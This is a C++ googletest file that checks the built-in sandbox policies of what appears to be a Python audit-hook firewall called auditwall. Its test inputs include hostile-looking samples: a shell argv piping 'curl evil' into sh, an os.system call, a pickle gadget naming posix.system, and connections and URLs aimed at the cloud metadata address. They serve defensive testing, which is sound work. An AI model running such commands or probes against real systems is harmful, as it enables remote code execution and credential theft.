// The built-in policies decide as documented, and leave normal programs alone.
#include <gtest/gtest.h>

#include <sys/socket.h>

#include "test_support.hpp"

namespace auditwall::policy {
namespace {

using testing::TestEvent;
using testing::verdict;

std::shared_ptr<const Policy> builtin(const char* name) {
  LoadResult r = load_file(std::string("builtin:") + name);
  EXPECT_TRUE(r.ok()) << r.report();
  return r.policy;
}

Event with_path(const char* name, std::string_view path, std::string_view mode) {
  Event e;
  e.name = name;
  e.path = path;
  if (mode.data() != nullptr) e.open_mode = mode;
  e.cwd = "/home/user";
  return e;
}

Event code(CodeOrigin origin, std::string_view caller, bool stdlib) {
  Event e;
  e.name = "exec";
  e.code_origin = origin;
  e.caller_module = caller;
  e.caller_in_stdlib = stdlib;
  return e;
}

Event connect(std::string_view host, std::int64_t port) {
  Event e;
  e.name = "socket.connect";
  e.host = host;
  e.port = port;
  e.address_family = host.find(':') != std::string_view::npos ? AF_INET6 : AF_INET;
  return e;
}

TEST(BuiltinStrict, DeniesWhatUntrustedCodeMustNotDo) {
  auto p = builtin("strict");
  TestEvent popen("subprocess.Popen");
  popen.event.executable = "/bin/true";
  popen.argv({"/bin/true"});
  EXPECT_EQ(verdict(*p, popen.event), "strict-no-processes:deny");
  EXPECT_EQ(verdict(*p, connect("127.0.0.1", 80)), "strict-no-network:deny");
  EXPECT_EQ(verdict(*p, TestEvent("ctypes.dlopen").event), "strict-no-native-code:deny");
  EXPECT_EQ(verdict(*p, TestEvent("sys.settrace").event), "strict-no-tampering:deny");
  EXPECT_EQ(verdict(*p, code(CodeOrigin::dynamic, "plugin", false)), "default:deny");
  EXPECT_EQ(verdict(*p, with_path("open", "/home/user/.bashrc", "a")), "default:deny");
  EXPECT_EQ(verdict(*p, with_path("os.remove", "/etc/passwd", {})), "default:deny");
  EXPECT_TRUE(p->evaluate(with_path("open", "out.txt", "w")).blocks());
  EXPECT_TRUE(p->seccomp().derive);
  EXPECT_EQ(p->default_action(), Action::deny);
}

TEST(BuiltinStrict, NormalProgramsKeepWorking) {
  auto p = builtin("strict");
  // dataclasses, namedtuple and enum exec generated source from the standard library
  EXPECT_EQ(verdict(*p, code(CodeOrigin::dynamic, "dataclasses", true)),
            "strict-stdlib-dynamic-code:allow");
  EXPECT_FALSE(p->evaluate(code(CodeOrigin::module, "importlib", false)).blocks());
  Event imp;
  imp.name = "import";
  imp.module = "json";
  EXPECT_FALSE(p->evaluate(imp).blocks());
  EXPECT_FALSE(p->evaluate(with_path("open", "/usr/lib/python3/json/__init__.py", "r")).blocks());
  EXPECT_EQ(verdict(*p, with_path("open", "/tmp/work/out.txt", "w")), "strict-temp-files:allow");
  Event setattr;  // class attribute assignments (enum, dataclasses) are not tampering
  setattr.name = "object.__setattr__";
  setattr.attribute = "_value_";
  EXPECT_FALSE(p->evaluate(setattr).blocks());
  Event marshal;
  marshal.name = "marshal.loads";
  EXPECT_FALSE(p->evaluate(marshal).blocks());
  // namedtuple sets __new__.__defaults__: not a tamper event
  setattr.attribute = "__defaults__";
  EXPECT_FALSE(p->evaluate(setattr).blocks());
}

TEST(BuiltinStrict, StartUpAsyncioAndShutilKeepWorking) {
  auto p = builtin("strict");
  // Python's start-up wraps the standard streams' descriptors: open of an fd, no path
  Event stdout_open;
  stdout_open.name = "open";
  stdout_open.open_mode = "w";
  EXPECT_EQ(verdict(*p, stdout_open), "default:allow");
  // asyncio's event loop makes a socket pair; types.coroutine flags a code object
  Event sock;
  sock.name = "socket.__new__";
  sock.address_family = AF_UNIX;
  EXPECT_FALSE(p->evaluate(sock).blocks());
  Event code_new;
  code_new.name = "code.__new__";
  code_new.caller_module = "types";
  code_new.caller_in_stdlib = true;
  EXPECT_EQ(verdict(*p, code_new), "strict-stdlib-coroutine-flag:allow");
  Event set_code;
  set_code.name = "object.__setattr__";
  set_code.attribute = "__code__";
  set_code.caller_module = "types";
  set_code.caller_in_stdlib = true;
  EXPECT_EQ(verdict(*p, set_code), "strict-stdlib-coroutine-flag:allow");
  set_code.caller_in_stdlib = false;  // a module named "types" outside the standard library
  EXPECT_EQ(verdict(*p, set_code), "strict-no-tampering:deny");
  code_new.caller_module = "plugin";
  EXPECT_EQ(verdict(*p, code_new), "strict-no-tampering:deny");
  // shutil's intent events pass; the open/os.* events beneath them decide
  EXPECT_EQ(verdict(*p, with_path("shutil.copyfile", std::string_view("\0<opaque>", 9), {})), "strict-shutil-intent:allow");
  EXPECT_EQ(verdict(*p, with_path("os.remove", "/tmp/d/x", {})), "strict-temp-files:allow");
  // every use of the network is still denied
  Event bind = connect("127.0.0.1", 0);
  bind.name = "socket.bind";
  EXPECT_EQ(verdict(*p, bind), "strict-no-network:deny");
  Event resolve;
  resolve.name = "socket.getaddrinfo";
  resolve.host = "example.com";
  EXPECT_EQ(verdict(*p, resolve), "strict-no-network:deny");
}

TEST(BuiltinWebService, StopsTheClassicPaths) {
  auto p = builtin("web-service");
  Event system;
  system.name = "os.system";
  system.command = "id";
  EXPECT_EQ(verdict(*p, system), "web-no-shells:deny");
  TestEvent shell("subprocess.Popen");
  shell.event.executable = "/bin/sh";
  shell.argv({"/bin/sh", "-c", "curl evil | sh"});
  EXPECT_EQ(verdict(*p, shell.event), "web-no-shells:deny");
  Event pickle;
  pickle.name = "pickle.find_class";
  pickle.global = "posix.system";
  EXPECT_EQ(verdict(*p, pickle), "web-pickle-known-classes:deny");
  EXPECT_EQ(verdict(*p, connect("169.254.169.254", 80)), "web-cloud-metadata:deny");
  EXPECT_EQ(verdict(*p, connect("2852039166", 80)), "web-cloud-metadata:deny");
  EXPECT_EQ(verdict(*p, connect("metadata.google.internal", 80)), "web-cloud-metadata-names:deny");
  EXPECT_EQ(verdict(*p, connect("10.0.0.5", 5432)), "web-private-ranges:deny");
  EXPECT_EQ(verdict(*p, connect("::ffff:192.168.1.1", 80)), "web-private-ranges:deny");
  Event url;
  url.name = "urllib.Request";
  url.url = "http://169.254.169.254/latest/meta-data/";
  EXPECT_EQ(verdict(*p, url), "web-cloud-metadata:deny");
  EXPECT_EQ(verdict(*p, TestEvent("ctypes.dlopen").event), "web-no-native-code:deny");
  EXPECT_EQ(verdict(*p, TestEvent("sys.addaudithook").event), "web-no-tampering:deny");
}

TEST(BuiltinWebService, NormalServiceWorkKeepsWorking) {
  auto p = builtin("web-service");
  TestEvent git("subprocess.Popen");
  git.event.executable = "/usr/bin/git";
  git.argv({"git", "rev-parse", "HEAD"});
  EXPECT_FALSE(p->evaluate(git.event).blocks());
  Event pickle;
  pickle.name = "pickle.find_class";
  pickle.global = "collections.OrderedDict";
  EXPECT_FALSE(p->evaluate(pickle).blocks());
  EXPECT_FALSE(p->evaluate(connect("127.0.0.1", 6379)).blocks());
  EXPECT_FALSE(p->evaluate(connect("93.184.216.34", 443)).blocks());
  EXPECT_FALSE(p->evaluate(connect("api.example.com", 443)).blocks());
  EXPECT_FALSE(p->evaluate(code(CodeOrigin::dynamic, "jinja2.environment", false)).blocks());
  EXPECT_FALSE(p->evaluate(with_path("open", "/srv/app/data.db", "r+")).blocks());
}

TEST(BuiltinMonitorAll, LogsEverySecurityEventAndBlocksNothing) {
  auto p = builtin("monitor-all");
  EXPECT_EQ(p->mode(), Mode::monitor);
  for (auto name : catalogue()) {
    Event e;
    e.name = name;
    Decision d = p->evaluate(e);
    if (name == "object.__setattr__" || name == "object.__delattr__") {
      EXPECT_EQ(d.rule, nullptr) << name;  // only with a function-internal attribute
      continue;
    }
    ASSERT_NE(d.rule, nullptr) << name;
    EXPECT_EQ(d.action, Action::log) << name;
    EXPECT_FALSE(d.blocks()) << name;
  }
  EXPECT_EQ(p->lookup("sys._getframe"), nullptr);
}

}  // namespace
}  // namespace auditwall::policy
